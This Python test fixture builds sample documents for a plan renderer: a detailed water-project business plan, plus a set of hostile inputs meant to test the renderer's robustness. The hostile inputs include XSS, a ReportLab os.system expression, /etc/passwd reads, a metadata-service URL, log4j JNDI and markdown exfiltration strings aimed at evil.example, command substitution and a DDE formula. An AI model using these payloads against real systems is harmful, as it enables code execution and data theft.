"""Documents to render: one of every kind of block, long and short, in eight languages, and a hostile one."""

from datetime import date
from decimal import Decimal
from pathlib import Path

from planning.content import (
    Bar,
    Chart,
    Chip,
    Chips,
    Column,
    Document,
    Gantt,
    Prose,
    Reference,
    Section,
    Series,
    Table,
)

D = Decimal
MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")


def reference(n: int, title: str, url: str, tier: str = "official") -> Reference:
    """A source."""
    return Reference(
        f"S{n}",
        title,
        url,
        "a snippet",
        f"2026-11-{n + 1:02d}T08:30:00Z",
        "ab" * 32,
        tier,  # type: ignore[arg-type]
    )


REFERENCES = (
    reference(
        1,
        "Progress on household drinking water, sanitation and hygiene 2000–2024",
        "https://washdata.org/reports/jmp-2025-wash-households",
    ),
    reference(
        2,
        "Kenya Population and Housing Census: Distribution of Population by Administrative Units",
        "https://www.knbs.or.ke/reports/kenya-census-2019/?section=volume-II&view=full#turkana",
    ),
    reference(
        3,
        "Effect of point-of-use water treatment on child diarrhoea: a systematic review",
        "https://doi.org/10.1000/example.2024.118273645",
        "academic",
    ),
    reference(
        4,
        "Counties rank among the driest in a decade",
        "https://www.example.org/news/2026/07/counties-rank-among-the-driest-in-a-decade-and-what-that-means-for-families.html",
        "established",
    ),
    reference(
        5,
        "Water kiosks: what twelve operators told us",
        "https://blog.example.net/water-kiosks",
        "other",
    ),
)


HERE = Path(__file__).parent
SUMMARY = (HERE / "summary.md").read_text(encoding="utf-8")
NEED = (HERE / "need.md").read_text(encoding="utf-8")


def finance() -> Table:
    """Twelve months: a table that needs a turned page."""
    columns = (
        Column("USD", share=2),
        *(Column(f"{m} 2027", "end") for m in MONTHS),
        Column("Year 1", "end"),
    )

    def row(label: str, base: int, step: int) -> tuple[str, ...]:
        values = [base + step * n for n in range(12)]
        return (label, *(f"{v:,}" for v in values), f"{sum(values):,}")

    rows = (
        row("Opening cash", 25_000, 2_150),
        row("Sale of water", 0, 820),
        row("Grants", 12_000, -300),
        row("Donations", 1_500, 25),
        row("Staff", -6_200, -40),
        row("Filtration systems", -4_800, 110),
        row("Training and travel", -1_350, 0),
        row("Other costs", -900, -12),
        row("Closing cash", 27_150, 2_150),
    )
    return Table(
        "Cash flow by month, first year",
        columns,
        rows,
        totals=1,
        note="Base case. Figures of the first quarter are contracted, all others are planned.",
    )


def risks() -> Table:
    """A text-heavy table."""
    columns = (
        Column("Risk", share=2),
        Column("L", "end", 0.4),
        Column("I", "end", 0.4),
        Column("Score", "end", 0.5),
        Column("Owner"),
        Column("What we do about it", share=2.4),
        Column("Sign that it happens", share=1.6),
    )
    rows = tuple(
        (name, str(odds), str(harm), str(odds * harm), owner, what, sign)
        for name, odds, harm, owner, what, sign in (
            (
                "Boreholes yield less than tested",
                3,
                5,
                "Field engineer",
                "Plan with the lower value; two mobile tanks in reserve; budget line 4.2",
                "Level below 12 m in two weeks running [S2]",
            ),
            (
                "Spare parts arrive late at the port of Mombasa",
                4,
                3,
                "Logistics",
                "Keep parts for six months in Lodwar",
                "An order is older than 40 days",
            ),
            (
                "Committees do not meet",
                2,
                4,
                "Community lead",
                "Train two members for each office; visit monthly in the first year",
                "No minutes for two months",
            ),
            (
                "Shilling loses value against the dollar",
                3,
                3,
                "Treasurer",
                "Hold the reserve in dollars; buy systems in the first half",
                "More than 10 % in a quarter",
            ),
            (
                "Conflict along the grazing routes",
                2,
                5,
                "Director",
                "Agree routes with elders; suspend visits on warning",
                "Alert of the county",
            ),
            (
                "Funder pays later than agreed",
                3,
                4,
                "Treasurer",
                "Reserve of three months; staged orders",
                "Instalment 30 days late",
            ),
            (
                "Water quality falls between two tests",
                2,
                5,
                "Field engineer",
                "Weekly strip tests by the caretaker; laboratory test each quarter",
                "Any positive strip",
            ),
        )
    )
    return Table("Risk register", columns, rows, note="L: likelihood, I: impact, both from 1 to 5.")


def beneficiaries(rows: int = 60) -> Table:
    """A table over several pages."""
    columns = (
        Column("Village", share=2),
        Column("Ward"),
        Column("People", "end"),
        Column("Systems", "end"),
        Column("Month", "center"),
    )
    body = tuple(
        (
            f"Village of {chr(65 + n % 26)}{'aeiou'[n % 5]}kor {n + 1}",
            f"Ward {n % 7 + 1}",
            f"{80 + n * 37 % 240:,}",
            str(1 + n % 3),
            f"{MONTHS[n % 12]} {2027 + n // 24}",
        )
        for n in range(rows)
    )
    return Table(
        "Where the systems stand", columns, (*body, ("Total", "", "10,000", "118", "")), totals=1
    )


def schedule(count: int = 14) -> Gantt:
    """Tasks over three years, some waiting for others."""
    names = (
        ("Found the association and open its account", "Director"),
        ("Baseline survey", "Survey lead"),
        ("Select forty villages with the county", "Community lead"),
        ("Order the first forty systems", "Logistics"),
        ("Train the first committees", "Community lead"),
        ("Install the first forty systems", "Field engineer"),
        ("Milestone: first 4,000 people served", "Director"),
        ("Order sixty systems", "Logistics"),
        ("Train the second committees", "Community lead"),
        ("Install sixty systems", "Field engineer"),
        ("Independent survey of results", "Survey lead"),
        ("Agree the handover with the county government", "Director"),
        ("Milestone: 10,000 people served", "Director"),
        ("Handover and final report", ""),
    )
    days = (
        (0, 60),
        (30, 75),
        (60, 60),
        (121, 90),
        (130, 110),
        (212, 150),
        (365, 1),
        (330, 120),
        (360, 160),
        (452, 330),
        (760, 100),
        (800, 120),
        (900, 1),
        (905, 150),
    )
    begin = date(2027, 1, 4)
    waits = (
        (),
        (0,),
        (0,),
        (2,),
        (2,),
        (3, 4),
        (5,),
        (3,),
        (4,),
        (7, 8),
        (9,),
        (9,),
        (10,),
        (11, 12),
    )
    bars = []
    for n in range(count):
        k = n % 14
        start = date.fromordinal(begin.toordinal() + days[k][0] + 20 * (n // 14))
        end = date.fromordinal(start.toordinal() + days[k][1] - 1)
        label, owner = names[k]
        bars.append(
            Bar(
                f"M{n + 1}",
                label,
                start,
                end,
                owner,
                k in (0, 2, 3, 5, 9, 11, 13),
                tuple(f"M{w + 1 + n // 14 * 14}" for w in waits[k]),
            )
        )
    return Gantt(
        "Milestones and what they wait for",
        tuple(bars),
        "Dates hold if the first instalment arrives by 15 January 2027.",
    )


def charts() -> tuple[Chart, ...]:
    """One of each kind."""
    quarters = tuple(f"Q{q} {y}" for y in (2027, 2028, 2029) for q in (1, 2, 3, 4))
    base = (25, 31, 22, 14, 9, 12, 19, 27, 33, 41, 52, 66)
    return (
        Chart(
            "Closing cash in three scenarios",
            "line",
            quarters,
            (
                Series("Base", tuple(D(v * 1000) for v in base)),
                Series("Low", tuple(D(v * 1000 - 900 * n - 4000) for n, v in enumerate(base))),
                Series("High", tuple(D(v * 1000 + 1100 * n + 2000) for n, v in enumerate(base))),
            ),
            "USD",
            "In the low case cash is short by USD 4,900 in the first quarter of 2028; the reserve covers it.",
        ),
        Chart(
            "Where the money comes from",
            "stacked",
            ("Year 1", "Year 2", "Year 3"),
            (
                Series("Grants", (D(118000), D(82000), D(40000))),
                Series("Sale of water", (D(14200), D(51800), D(96400))),
                Series("Donations", (D(18500), D(19100), D(21000))),
            ),
            "USD",
        ),
        Chart(
            "People served",
            "columns",
            ("End of year 1", "End of year 2", "End of year 3"),
            (Series("People", (D(4000), D(7600), D(10000))),),
            "people",
        ),
        Chart(
            "Monthly result",
            "columns",
            tuple(f"{m} 2027" for m in MONTHS) + tuple(f"{m} 2028" for m in MONTHS),
            (Series("Result", tuple(D(v) for v in range(-9200, 14800, 1000))),),
            "USD",
        ),
        Chart(
            "Share of households with safe water",
            "line",
            MONTHS,
            (Series("Share", tuple(D(v) for v in range(40, 88, 4))),),
            "%",
        ),
    )


CHIPS = Chips(
    (
        Chip(
            6,
            "Clean water and sanitation: target 6.1",
            "Direct. 10,000 people with safe water at an affordable price by 2029, from 0 today.",
        ),
        Chip(
            3,
            "Health and well-being: target 3.9",
            "Contributing. Half as many cases of water-borne disease among children under five [S3].",
        ),
        Chip(
            5,
            "Gender equality: target 5.4",
            "Contributing. Two hours a day less spent fetching water.",
        ),
        Chip(8, "Decent work: target 8.5", "100 paid caretakers, sixty of them women."),
        Chip(17, "Partnerships: target 17.17", ""),
    )
)


def plan(**changes: object) -> Document:
    """A whole plan in English, of more than fifteen pages."""
    line, stacked, columns, monthly, share = charts()
    long_text = "\n\n".join([NEED] * 3)
    sections = (
        Section("summary", "Summary", (Prose(SUMMARY),), "model"),
        Section("need", "The need, and who lives with it", (Prose(NEED), share), "model"),
        Section("programme", "What we do", (Prose(long_text), columns), "model"),
        Section(
            "sdg",
            "Contribution to the Sustainable Development Goals",
            (Prose("We count only what we measure ourselves."), CHIPS),
            "code",
        ),
        Section(
            "milestones",
            "Milestones and schedule",
            (
                Prose(
                    "Every milestone has an owner and a date. A day lost on the critical path is lost at the end."
                ),
                schedule(),
            ),
        ),
        Section(
            "finance",
            "Three-year finances",
            (
                Prose(
                    "The price of a can is five shillings. All assumptions stand at the end of this section."
                ),
                finance(),
                line,
                stacked,
                monthly,
                Prose("The break-even month is October 2029. Until then grants fill the gap."),
            ),
        ),
        Section(
            "where",
            "Where the systems stand",
            (Prose("The villages were chosen with the county [S2]."), beneficiaries()),
        ),
        Section("risks", "Risks", (Prose("Each risk has one owner."), risks())),
        Section(
            "passages",
            "The next ninety days",
            (
                Prose(
                    "1. Open the account.\n2. Sign with the county.\n3. Order ten systems.\n\nEach has a date."
                ),
            ),
            "embedded",
        ),
        Section("organisation", "Organisation and team", (Prose(long_text),), "founder"),
    )
    document = {
        "type": "business_plan",
        "title": "Business plan roadmap 2027–2029",
        "subtitle": "Community water filtration for 10,000 people in rural Turkana",
        "venture": "Clean Water Initiative",
        "language": "en",
        "currency": "USD",
        "written_on": date(2026, 11, 24),
        "sections": sections,
        "references": REFERENCES,
        "questions": (
            "Which legal form will the association have?",
            "What did the last yield test of the eleven boreholes show, and who keeps its report?",
        ),
        "notices": (
            "A language model helped to write this plan; its figures come from one list of facts.",
        ),
    }
    return Document(**{**document, **changes})  # type: ignore[arg-type]


HOSTILE = (
    '<img src="file:///etc/passwd">',
    "<img src=http://169.254.169.254/latest/meta-data/>",
    "<font color=\"[[[getattr(pow, Word('__globals__'))['os'].system('touch /tmp/owned')] "
    "for Word in [orgTypeFun]] and 'red'\">x</font>",
    "<para><onDraw name='x'/></para> <a href=\"javascript:alert(1)\">x</a> <br/> <b>",
    '<script>alert(1)</script><svg onload=alert(1)> "><img src=x onerror=alert(1)>',
    "![x](https://evil.example/?q=secret) [click](javascript:alert(1)) <https://evil.example/a>",
    "{{fact:x}} %s %n {0} ${jndi:ldap://evil.example/a} `id` $(id) =cmd|' /C calc'!A0",
    "\u202egnp.exe\u202c \u2066hidden\u2069 zero\u200bwidth tag\U000e0041 \ufeffbom",
    "nul\x00byte bell\x07 escape\x1b[31m form\x0cfeed \x85 \ud800 half \udfff \ufffe \ufdd0",
    "emoji 🚀✅👩‍👩‍👧 🇰🇪 and \ue000 \U0010ffff",
    "\\documentclass{x} \\input{/etc/passwd} %PDF-1.7 endstream endobj ) Tj ET",
    "[S1]: http://evil.example [S1](http://evil.example) [S99] [S2][S1] [S1, S2]",
    "| a | b |\n|---|---|\n| c | d |\n\n# h1\n\n***\n\n- [ ] x\n\n    code\n\n```\nfence",
    "x" * 3000,
    "مشروع \u202eabc\u202c (test) 123 क्षि \u0301\u0301\u0301",
    "]]> --> <!-- <![CDATA[ &amp; &lt; &#x0; &#60;script&#62; 'quote' \"quote\"",
)


def hostile(text: str) -> Document:
    """A document with *text* in every place that has text."""
    return Document(
        type="business_plan",
        title=text,
        subtitle=text,
        venture=text,
        language="en",
        currency="USD",
        written_on=date(2026, 11, 24),
        sections=(
            Section(
                text,
                text,
                (Prose(text), Prose(f"- {text}\n- {text}\n\n> {text}\n\n### {text}\n")),
                "embedded",
            ),
            Section(
                "blocks",
                text,
                (
                    Table(
                        text,
                        (Column(text), Column(text, "end"), Column("c", "center")),
                        ((text, text, text), (text,)),
                        1,
                        text,
                    ),
                    Gantt(
                        text,
                        (
                            Bar(
                                text,
                                text,
                                date(2027, 1, 1),
                                date(2027, 2, 1),
                                text,
                                True,
                                (text, "b"),
                            ),
                            Bar("b", text, date(2027, 3, 1), date(2027, 2, 1), text),
                        ),
                        text,
                    ),
                    Chart(
                        text,
                        "line",
                        (text, "b"),
                        (Series(text, (D(1), D(2))), Series(text, (D("NaN"), D("-Infinity")))),
                        text,
                        text,
                    ),
                    Chart(
                        text,
                        "stacked",
                        (text,),
                        (Series(text, (D(1), D(2))), Series(text, ())),
                        text,
                    ),
                    Chart(text, "columns", (), (), "", text),
                    Chips((Chip(6, text, text), Chip(-3, text))),
                ),
            ),
        ),
        references=(
            Reference("S1", text, text, text, text, text),
            Reference(
                "S2", text, f"https://example.org/{text}", text, "2026-01-01", "", "academic"
            ),
            Reference("S3", text, f"javascript:{text}", text, text, text),
        ),
        questions=(text, text),
        is_draft=True,
        notices=(text,),
    )
